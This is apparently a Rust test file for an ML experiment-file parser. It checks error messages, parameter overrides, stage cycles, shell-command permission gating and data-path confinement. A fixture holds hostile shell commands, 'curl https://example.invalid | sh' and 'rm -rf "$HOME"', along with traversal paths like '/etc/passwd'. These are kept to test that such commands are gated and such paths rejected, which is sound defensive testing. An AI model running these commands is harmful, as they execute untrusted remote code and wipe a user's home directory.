//! Validation of experiment files: every bad input gets one clear message naming the file,
//! line and key.

use std::path::Path;

use super::*;
use crate::experiment::kind::{ParamSpec, StageContext, StageError, StageReport};

/// A kind with one parameter of each type, for exercising validation.
struct Train;

const TRAIN_PARAMS: &[ParamSpec] = &[
    ParamSpec {
        name: "epochs",
        ty: ParamType::Int,
        default: ParamDefault::Required,
        help: "passes over the data",
    },
    ParamSpec {
        name: "learning_rate",
        ty: ParamType::Float,
        default: ParamDefault::Float(1e-3),
        help: "step size",
    },
    ParamSpec {
        name: "optimizer",
        ty: ParamType::Choice(&["adam", "sgd"]),
        default: ParamDefault::Str("adam"),
        help: "optimizer",
    },
    ParamSpec {
        name: "seed",
        ty: ParamType::Int,
        default: ParamDefault::ExperimentSeed,
        help: "seed",
    },
];

impl StageKind for Train {
    fn name(&self) -> &'static str {
        "train"
    }
    fn version(&self) -> u32 {
        1
    }
    fn summary(&self) -> &'static str {
        "test kind"
    }
    fn params(&self) -> &'static [ParamSpec] {
        TRAIN_PARAMS
    }
    fn inputs(&self) -> InputSlots {
        InputSlots::Fixed(&["data"])
    }
    fn outputs(&self, _params: &Params) -> Vec<OutputSpec> {
        vec![OutputSpec::new("model", "model.bin", true)]
    }
    fn check(&self, params: &Params) -> Result<(), crate::experiment::kind::ParamProblem> {
        match params.float("learning_rate") {
            Ok(rate) if rate > 0.0 => Ok(()),
            Ok(rate) => Err(crate::experiment::kind::ParamProblem {
                param: "learning_rate".into(),
                message: format!("must be above 0, not {rate}"),
            }),
            Err(e) => panic!("checked before its type: {e}"),
        }
    }
    fn run(&self, _ctx: &StageContext) -> Result<StageReport, StageError> {
        Ok(StageReport::default())
    }
}

struct Source;

impl StageKind for Source {
    fn name(&self) -> &'static str {
        "source"
    }
    fn version(&self) -> u32 {
        1
    }
    fn summary(&self) -> &'static str {
        "test kind"
    }
    fn params(&self) -> &'static [ParamSpec] {
        &[]
    }
    fn inputs(&self) -> InputSlots {
        InputSlots::Fixed(&[])
    }
    fn outputs(&self, _params: &Params) -> Vec<OutputSpec> {
        vec![OutputSpec::new("data", "data.bin", false)]
    }
    fn run(&self, _ctx: &StageContext) -> Result<StageReport, StageError> {
        Ok(StageReport::default())
    }
}

/// A kind that runs a command written in the experiment file, as `shell` does.
struct Script;

const SCRIPT_PARAMS: &[ParamSpec] = &[
    ParamSpec {
        name: "command",
        ty: ParamType::Str,
        default: ParamDefault::Required,
        help: "what to run",
    },
    ParamSpec {
        name: "data",
        ty: ParamType::DataPath,
        default: ParamDefault::Optional,
        help: "a file it reads",
    },
];

impl StageKind for Script {
    fn name(&self) -> &'static str {
        "script"
    }
    fn version(&self) -> u32 {
        1
    }
    fn summary(&self) -> &'static str {
        "test kind"
    }
    fn params(&self) -> &'static [ParamSpec] {
        SCRIPT_PARAMS
    }
    fn inputs(&self) -> InputSlots {
        InputSlots::Any
    }
    fn outputs(&self, _params: &Params) -> Vec<OutputSpec> {
        vec![OutputSpec::new("out", "out.txt", true)]
    }
    fn command(&self, params: &Params) -> Option<String> {
        params.str("command").ok().map(str::to_string)
    }
    fn run(&self, _ctx: &StageContext) -> Result<StageReport, StageError> {
        Ok(StageReport::default())
    }
}

/// A kind with an optional input, as `evaluate`'s `test`.
struct Score;

impl StageKind for Score {
    fn name(&self) -> &'static str {
        "score"
    }
    fn version(&self) -> u32 {
        1
    }
    fn summary(&self) -> &'static str {
        "test kind"
    }
    fn params(&self) -> &'static [ParamSpec] {
        &[]
    }
    fn inputs(&self) -> InputSlots {
        InputSlots::Fixed(&["data", "rows"])
    }
    fn optional_inputs(&self) -> &'static [&'static str] {
        &["rows"]
    }
    fn outputs(&self, _params: &Params) -> Vec<OutputSpec> {
        vec![OutputSpec::new("scores", "scores.csv", true)]
    }
    fn run(&self, _ctx: &StageContext) -> Result<StageReport, StageError> {
        Ok(StageReport::default())
    }
}

fn registry() -> Registry {
    let mut r = Registry::new();
    r.add(Box::new(Train));
    r.add(Box::new(Source));
    r.add(Box::new(Script));
    r
}

const GOOD: &str = r#"
name = "exp"
seed = 7

[stages.train]
kind = "train"
inputs = { data = "load.data" }
epochs = 5

[stages.load]
kind = "source"
"#;

fn parse_with(text: &str, sets: &[&str]) -> Result<Experiment, ExperimentError> {
    let overrides: Vec<Override> = sets
        .iter()
        .map(|s| Override::parse(s).expect("valid flag"))
        .collect();
    parse(Path::new("exp.toml"), text, &overrides, &registry())
}

/// The single problem's rendered message.
fn error_of(text: &str) -> String {
    let err = parse_with(text, &[]).expect_err("should be rejected");
    assert_eq!(err.problems.len(), 1, "one problem expected: {err}");
    err.to_string()
}

#[test]
fn a_good_file_gets_defaults_seed_and_run_order() {
    let exp = parse_with(GOOD, &[]).expect("valid");
    let order: Vec<&str> = exp.stages.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(order, ["load", "train"], "producers run first");
    let train = exp.stage("train").expect("train");
    assert_eq!(train.params.int("epochs").expect("epochs"), 5);
    assert_eq!(train.params.float("learning_rate").expect("lr"), 1e-3);
    assert_eq!(train.params.str("optimizer").expect("opt"), "adam");
    assert_eq!(
        train.params.int("seed").expect("seed"),
        7,
        "seed defaults to the experiment's"
    );
    assert_eq!(
        train.inputs["data"],
        InputRef {
            stage: "load".into(),
            output: "data".into()
        }
    );
}

#[test]
fn set_overrides_parameters_and_seed() {
    let exp = parse_with(
        GOOD,
        &[
            "train.epochs=20",
            "train.learning_rate=1",
            "train.optimizer=sgd",
            "seed=9",
        ],
    )
    .expect("valid");
    let train = exp.stage("train").expect("train");
    assert_eq!(train.params.int("epochs").expect("epochs"), 20);
    assert_eq!(
        train.params.float("learning_rate").expect("lr"),
        1.0,
        "integer taken as float"
    );
    assert_eq!(train.params.str("optimizer").expect("opt"), "sgd");
    assert_eq!(train.params.int("seed").expect("seed"), 9);
    assert_eq!(
        exp.effective_params()["train"]["epochs"].as_integer(),
        Some(20)
    );
}

#[test]
fn bad_set_flags_are_named() {
    let err = parse_with(GOOD, &["train.epoch=3"])
        .expect_err("typo")
        .to_string();
    assert!(err.contains("--set train.epoch=3"), "{err}");
    assert!(err.contains("did you mean `epochs`"), "{err}");
    let err = parse_with(GOOD, &["trian.epochs=3"])
        .expect_err("typo")
        .to_string();
    assert!(
        err.contains("no stage named `trian`; did you mean `train`"),
        "{err}"
    );
    let err = parse_with(GOOD, &["train.epochs=many"])
        .expect_err("type")
        .to_string();
    assert!(
        err.contains("must be an integer, not the string \"many\""),
        "{err}"
    );
}

#[test]
fn unknown_kind_suggests_and_lists() {
    let text = GOOD.replace("kind = \"source\"", "kind = \"sourc\"");
    let err = error_of(&text);
    assert!(
        err.starts_with(
            "exp.toml:11:8: stages.load.kind: unknown stage kind `sourc`; did you mean `source`?"
        ),
        "{err}"
    );
    assert!(
        err.contains("known kinds: `script`, `source`, `train`"),
        "{err}"
    );
}

#[test]
fn misspelled_key_suggests_the_closest() {
    let text = GOOD.replace("epochs = 5", "epochs = 5\nlearning_rat = 0.1");
    let err = error_of(&text);
    assert!(
        err.starts_with("exp.toml:9:1: stages.train.learning_rat: unknown parameter for kind `train`; did you mean `learning_rate`?"),
        "{err}"
    );
    let err = error_of(&GOOD.replace("seed = 7", "seed = 7\ndescripton = \"x\""));
    assert!(
        err.contains("exp.toml:4:1: descripton: unknown key; did you mean `description`?"),
        "{err}"
    );
}

#[test]
fn wrong_types_are_named() {
    let err = error_of(&GOOD.replace("epochs = 5", "epochs = \"5\""));
    assert!(
        err.starts_with(
            "exp.toml:8:10: stages.train.epochs: must be an integer, not the string \"5\""
        ),
        "{err}"
    );
    let err = error_of(&GOOD.replace("epochs = 5", "epochs = 5\noptimizer = \"adamw\""));
    assert!(
        err.contains(
            "stages.train.optimizer: `adamw` is not one of `adam`, `sgd`; did you mean `adam`?"
        ),
        "{err}"
    );
    let err = error_of(&GOOD.replace("seed = 7", "seed = 7.5"));
    assert!(
        err.contains("exp.toml:3:8: seed: must be an integer, not float"),
        "{err}"
    );
}

#[test]
fn missing_required_parameter() {
    let err = error_of(&GOOD.replace("epochs = 5", ""));
    assert!(
        err.starts_with("exp.toml:5:9: stages.train.epochs: missing required parameter `epochs`"),
        "{err}"
    );
}

#[test]
fn input_naming_a_missing_stage_or_output() {
    let err = error_of(&GOOD.replace("\"load.data\"", "\"lod.data\""));
    assert!(
        err.starts_with(
            "exp.toml:7:19: stages.train.inputs.data: no stage named `lod`; did you mean `load`?"
        ),
        "{err}"
    );
    let err = error_of(&GOOD.replace("\"load.data\"", "\"load.dta\""));
    assert!(
        err.contains("stage `load` has no output `dta`; did you mean `data`?"),
        "{err}"
    );
    let err = error_of(&GOOD.replace(
        "data = \"load.data\"",
        "data = \"load.data\", extra = \"load.data\"",
    ));
    assert!(
        err.contains("stages.train.inputs.extra: kind `train` has no input `extra`"),
        "{err}"
    );
}

#[test]
fn a_cycle_names_its_stages() {
    let text = r#"
name = "cyclic"
[stages.a]
kind = "train"
inputs = { data = "c.model" }
epochs = 1
[stages.b]
kind = "train"
inputs = { data = "a.model" }
epochs = 1
[stages.c]
kind = "train"
inputs = { data = "b.model" }
epochs = 1
"#;
    let err = error_of(text);
    assert!(err.contains("the stages form a cycle:"), "{err}");
    let cycle = err.rsplit(": ").next().expect("cycle text");
    for stage in ["a", "b", "c"] {
        assert!(cycle.contains(stage), "{err}");
    }
    assert_eq!(cycle.matches("->").count(), 3, "{err}");
}

#[test]
fn invalid_toml_has_a_position() {
    let err = error_of("name = \"x\"\n[stages.a\nkind = 1\n");
    assert!(err.starts_with("exp.toml:2:"), "{err}");
    assert!(err.contains("invalid TOML"), "{err}");
}

#[test]
fn all_problems_are_reported_at_once() {
    let text = GOOD
        .replace("epochs = 5", "epoch = 5")
        .replace("kind = \"source\"", "kind = \"source\"\ncolour = 1");
    let err = parse_with(&text, &[]).expect_err("bad");
    // The typo is reported once, not again as a missing `epochs`.
    assert_eq!(err.problems.len(), 2, "{err}");
    let shown = err.to_string();
    assert!(
        shown.starts_with("2 problems in exp.toml:\nexp.toml:8:1: stages.train.epoch:"),
        "{shown}"
    );
    assert!(shown.ends_with("exp.toml:12:1: stages.load.colour: unknown parameter for kind `source`; it takes no parameters"), "{shown}");
}

#[test]
fn numbers_in_any_toml_spelling_are_read() {
    let exp = parse_with(&GOOD.replace("epochs = 5", "epochs = 0x1_0"), &[]).expect("valid");
    assert_eq!(
        exp.stage("train")
            .expect("train")
            .params
            .int("epochs")
            .expect("int"),
        16
    );
    let exp = parse_with(&GOOD.replace("epochs = 5", "epochs = -3"), &[]).expect("valid");
    assert_eq!(
        exp.stage("train")
            .expect("train")
            .params
            .int("epochs")
            .expect("int"),
        -3
    );
}

#[test]
fn a_negative_seed_is_reported_once_on_the_seed() {
    // In the file: on the key, with its place; the stage that takes it reports nothing more.
    let err = error_of(&GOOD.replace("seed = 7", "seed = -1"));
    assert_eq!(err, "exp.toml:3:8: seed: must not be negative, not -1");
    // From the flag: on the flag, never on a stage's key.
    let err = parse_with(GOOD, &["seed=-1"]).expect_err("negative");
    assert_eq!(err.problems.len(), 1, "{err}");
    assert_eq!(
        err.to_string(),
        "exp.toml: --set seed=-1: `seed` must not be negative, not -1"
    );
    let err = error_of(&GOOD.replace("seed = 7", "seed = 9_223_372_036_854_775_808"));
    assert!(
        err.starts_with("exp.toml:3:8: seed: must be at most "),
        "{err}"
    );
}

#[test]
fn a_kind_check_names_the_key_or_the_flag_that_set_it() {
    let err = error_of(&GOOD.replace("epochs = 5", "epochs = 5\nlearning_rate = 0"));
    assert_eq!(
        err,
        "exp.toml:9:17: stages.train.learning_rate: must be above 0, not 0"
    );
    // The file's own value was fine: the flag is at fault, and is named.
    let text = GOOD.replace("epochs = 5", "epochs = 5\nlearning_rate = 0.1");
    let err = parse_with(&text, &["train.learning_rate=-1"]).expect_err("bad flag");
    assert_eq!(err.problems.len(), 1, "{err}");
    assert_eq!(
        err.to_string(),
        "exp.toml: --set train.learning_rate=-1: `learning_rate` must be above 0, not -1"
    );
}

const SCRIPTS: &str = r#"
name = "scripts"

[stages.fetch]
kind = "script"
command = "curl https://example.invalid | sh"

[stages.load]
kind = "source"

[stages.clean]
kind = "script"
command = "rm -rf \"$HOME\"\necho done"
"#;

#[test]
fn commands_from_the_file_validate_only_when_allowed() {
    let err = error_of(SCRIPTS);
    assert_eq!(
        err,
        "exp.toml: this experiment runs shell commands: \
         stages.fetch.command = \"curl https://example.invalid | sh\"; \
         stages.clean.command = \"rm -rf \\\"$HOME\\\"\\necho done\"; \
         they run only when allowed: if you trust this file, pass --allow-shell \
         (or set PIPELINE_ALLOW_SHELL=1)"
    );
    let mut allowed = registry();
    allowed.allow_commands(true);
    let exp = parse(Path::new("exp.toml"), SCRIPTS, &[], &allowed).expect("allowed");
    assert_eq!(exp.stages.len(), 3);
    // Without a command-running stage, nothing needs allowing.
    parse_with(GOOD, &[]).expect("no commands");
}

#[test]
fn data_paths_stay_under_the_data_root() {
    let mut allowed = registry();
    allowed.allow_commands(true);
    let with_data = |path: &str| {
        let text = format!(
            "name = \"d\"\n[stages.s]\nkind = \"script\"\ncommand = \"true\"\ndata = \"{path}\"\n"
        );
        parse(Path::new("exp.toml"), &text, &[], &allowed)
    };
    for good in ["x.csv", "sub/dir/x.csv", "./x.csv"] {
        with_data(good).expect(good);
    }
    for bad in ["../x.csv", "/etc/passwd", "sub/../../x.csv", ""] {
        let err = with_data(bad).expect_err(bad).to_string();
        assert_eq!(
            err,
            format!(
                "exp.toml:5:8: stages.s.data: must be a path relative to the data root \
                 without `..`, not the string \"{bad}\""
            )
        );
    }
}

#[test]
fn an_optional_input_may_be_left_out_but_a_required_one_may_not() {
    let mut registry = registry();
    registry.add(Box::new(Score));
    let parse_with = |text: &str, _: &[&str]| parse(Path::new("exp.toml"), text, &[], &registry);
    let error_of = |text: &str| parse_with(text, &[]).expect_err("rejected").to_string();
    let text =
        format!("{GOOD}\n[stages.all]\nkind = \"score\"\ninputs = {{ data = \"load.data\" }}\n");
    let exp = parse_with(&text, &[]).expect("`rows` is optional");
    assert!(!exp.stage("all").expect("all").inputs.contains_key("rows"));
    let some = format!(
        "{GOOD}\n[stages.some]\nkind = \"score\"\ninputs = {{ data = \"load.data\", rows = \"load.data\" }}\n"
    );
    let exp = parse_with(&some, &[]).expect("and may be given");
    assert_eq!(
        exp.stage("some").expect("some").inputs["rows"].stage,
        "load"
    );
    let none = format!("{GOOD}\n[stages.none]\nkind = \"score\"\n");
    let err = error_of(&none);
    assert!(err.contains("missing input `data`"), "{err}");
    assert!(!err.contains("`rows`:"), "{err}");
}

#[test]
fn caveats_and_headline_are_read_as_lists_of_strings() {
    let text = format!(
        "caveats = [\"pediatric normals\", \"random base\"]\nheadline = \"sensitivity\"\n{GOOD}"
    );
    let exp = parse_with(&text, &[]).expect("valid");
    assert_eq!(exp.caveats, ["pediatric normals", "random base"]);
    assert_eq!(exp.headline, ["sensitivity"]);
    let exp = parse_with(GOOD, &[]).expect("valid");
    assert!(exp.caveats.is_empty() && exp.headline.is_empty());
    let err = error_of(&format!("caveats = [\"ok\", 3]\n{GOOD}"));
    assert!(err.contains("caveats[1]"), "{err}");
    let err = error_of(&format!("caveats = 3\n{GOOD}"));
    assert!(err.contains("a list of strings"), "{err}");
}
